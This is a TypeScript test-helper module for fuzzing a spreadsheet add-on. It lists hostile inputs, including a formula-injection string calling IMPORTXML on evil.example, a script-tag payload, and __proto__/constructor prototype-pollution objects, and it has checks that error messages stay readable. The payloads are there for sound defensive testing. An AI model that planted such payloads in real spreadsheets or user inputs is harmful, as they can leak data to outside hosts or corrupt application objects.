/**
 * What the hostile-input campaigns throw: values a cell, a careless script or a tampered sidebar can
 * hand the add-on, and the checks every answer must pass. Shared by test/formulas/hostile-bundle.test.ts
 * and test/workbook/hostile-rpc.test.ts.
 */
import vm from 'node:vm';
import fc from 'fast-check';

/** `npm run fuzz` sets FUZZ=1: the large counts; `npm test` runs the modest ones. */
export const FUZZ = process.env.FUZZ === '1';

/** Runs per property: `modest` in `npm test`, `large` in `npm run fuzz`; HOSTILE_RUNS overrides both. */
export function runs(modest: number, large: number): number {
  return Number(process.env.HOSTILE_RUNS ?? (FUZZ ? large : modest));
}

export const HUGE = 'x'.repeat(100_000);

/** Text a user or a script could send: formulas, error strings, names of our own tabs, A1-breaking names. */
export const HOSTILE_TEXT = [
  '',
  ' ',
  '\u00a0',
  '#N/A',
  '#REF!',
  '#DIV/0!',
  '#ERROR!',
  '=1+1',
  '=IMPORTXML("https://evil.example/x","//a")',
  '+1 call',
  '-5 kg',
  '@va',
  "'quoted",
  'TRUE',
  '007',
  '1e400',
  '12%',
  '$3,500',
  '3.500,50 €',
  '¥350,000',
  '(100)',
  '１２３',
  '۱۲۳',
  '2024-02-30',
  '2024-13-01',
  '0024-06-10',
  '9999-12-31',
  '1899-12-30',
  '2024-06-10T00:00:00Z',
  '10/06/2024',
  '2024-6-1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'Clients',
  'clients',
  'Settings',
  'Dashboard',
  'Payments',
  'Requests',
  'Sheet1!A1',
  "O'Brien's",
  "'Clients'!A1:B2",
  'A1:B2',
  '[x]*?/\\:',
  'مشتری',
  '顧客',
  '👩‍💼 client',
  'tab\tname',
  'line\nbreak',
  '\u0000',
  '<script>alert(1)</script>',
  'x'.repeat(101),
  HUGE,
];

/** Numbers and the like, including the ones JSON cannot carry. */
export const HOSTILE_SCALARS: unknown[] = [
  null,
  undefined,
  true,
  false,
  0,
  -0,
  -1,
  1,
  2.5,
  42,
  -50_000,
  2 ** 53 + 1,
  1e21,
  1e308,
  -1e308,
  5e-324,
  NaN,
  Infinity,
  -Infinity,
];

/** Objects with keys that poison a naive `obj[key]` lookup or merge. */
function poisoned(): unknown[] {
  return [
    {},
    [],
    [[]],
    [['a', 1], [2]],
    JSON.parse('{"__proto__": {"ok": true, "clientId": "C-0001"}}'),
    JSON.parse('{"constructor": {"prototype": {"ok": true}}}'),
    { toString: 'x', valueOf: 7 },
    { length: 3 },
  ];
}

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('=', '+', '-', '@')
      .chain((lead) => fc.string({ maxLength: 8 }).map((s) => lead + s)),
  },
);

/** Any value a JSON-ish transport could deliver, and some it could not. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_SCALARS) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.constant(null).chain(() => fc.constantFrom(...poisoned())) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 3 }) },
);

/** Keys a tampered form could carry besides (or instead of) the right ones. */
export const hostileKey = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'ok',
  'row',
  'tabName',
  'sheetId',
  'x'.repeat(300),
);

/**
 * `value` rebuilt from the bundle's own Array, Object and Date: in Apps Script arguments are objects of
 * the script's realm (`instanceof Array` holds). Keys are defined, not assigned, so "__proto__" stays an
 * own key, as JSON.parse in the transport leaves it.
 */
export function inRealm(context: vm.Context, value: unknown): unknown {
  const realm = vm.runInContext('({ Array: Array, Object: Object, Date: Date })', context) as {
    Array: ArrayConstructor;
    Object: ObjectConstructor;
    Date: DateConstructor;
  };
  const copy = (v: unknown): unknown => {
    if (Array.isArray(v)) {
      const out = new realm.Array();
      for (const item of v) out.push(copy(item));
      return out;
    }
    if (v instanceof Date) return new realm.Date(v.getTime());
    if (v !== null && typeof v === 'object') {
      const out = new realm.Object();
      for (const key of Object.keys(v)) {
        realm.Object.defineProperty(out, key, {
          value: copy((v as Record<string, unknown>)[key]),
          enumerable: true,
          writable: true,
          configurable: true,
        });
      }
      return out;
    }
    return v;
  };
  return copy(value);
}

/** Words that only a crash puts in a message (an unguarded property read, a stringified object). */
export const CRASH = new RegExp(
  'TypeError|RangeError|ReferenceError|Cannot read|Cannot convert|is not a function|is not iterable|' +
    'undefined|\\[object |Maximum call stack',
);

/** A message a user can act on: short, no crash words, no 100,000-character echo of the input. */
export function readable(message: unknown): string | null {
  if (typeof message !== 'string') return `not a string: ${typeof message}`;
  if (message.trim().length < 5) return `too short: ${JSON.stringify(message)}`;
  if (message.length > 400) return `too long (${message.length} characters): ${message.slice(0, 80)}…`;
  if (CRASH.test(message)) return `a crash, not a message: ${message}`;
  return null;
}

/**
 * Why `value` could not travel back through google.script.run (primitives, plain objects and arrays
 * only: a Date, a function or NaN there makes the call fail), or null.
 */
export function notTransportable(value: unknown, path = 'result'): string | null {
  if (value === null || typeof value === 'string' || typeof value === 'boolean') return null;
  if (typeof value === 'number') return Number.isFinite(value) ? null : `${path} is ${value}`;
  if (typeof value === 'undefined') return null;
  if (typeof value !== 'object') return `${path} is a ${typeof value}`;
  if (Object.prototype.toString.call(value) === '[object Date]') return `${path} is a Date`;
  for (const [key, item] of Object.entries(value as object)) {
    const why = notTransportable(item, `${path}.${key}`);
    if (why) return why;
  }
  return null;
}

/** Every string inside `value` (the text a call sent, which must land as text if it lands). */
export function stringsIn(value: unknown, out: Set<string> = new Set()): Set<string> {
  if (typeof value === 'string') out.add(value);
  else if (value !== null && typeof value === 'object')
    for (const item of Object.values(value as object)) stringsIn(item, out);
  return out;
}
